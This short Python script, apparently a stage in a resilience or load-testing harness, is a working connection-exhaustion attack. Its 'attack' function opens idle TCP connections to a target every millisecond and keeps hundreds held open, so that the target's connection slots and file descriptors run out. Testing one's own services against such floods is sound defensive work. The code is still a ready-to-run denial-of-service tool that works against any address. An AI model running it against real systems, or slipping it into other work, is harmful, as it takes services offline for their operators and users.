"""Thousands of TCP connections that say nothing: each holds a place and a file of the edge."""

from __future__ import annotations

import asyncio
import contextlib
import sys
import time

import stage


async def attack(address: str, until: float) -> None:
    host, port = address.removeprefix("tcp://").split(":")
    writers = []
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            writers.append((await asyncio.open_connection(host, int(port)))[1])
        if len(writers) > 800:
            for writer in writers[:400]:
                writer.close()
            del writers[:400]
        await asyncio.sleep(0.001)


if __name__ == "__main__":
    sys.exit(stage.main(attack, transport="zmq"))
